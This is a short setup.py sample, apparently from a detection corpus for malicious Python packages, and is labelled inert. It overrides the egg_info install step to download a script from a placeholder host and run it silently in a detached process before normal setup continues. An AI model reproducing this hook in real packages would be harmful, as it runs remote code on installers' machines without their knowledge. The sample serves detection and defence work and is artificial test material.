# pkgguard corpus 233 (install-hook), modelled on [bertus]; inert, never run.
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def run(self):
        target = tempfile.mktemp(suffix=".py")
        urllib.request.urlretrieve("https://cdn.example/stage.py", target)
        subprocess.Popen([sys.executable, target], start_new_session=True)
        egg_info.run(self)


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"egg_info": Info})
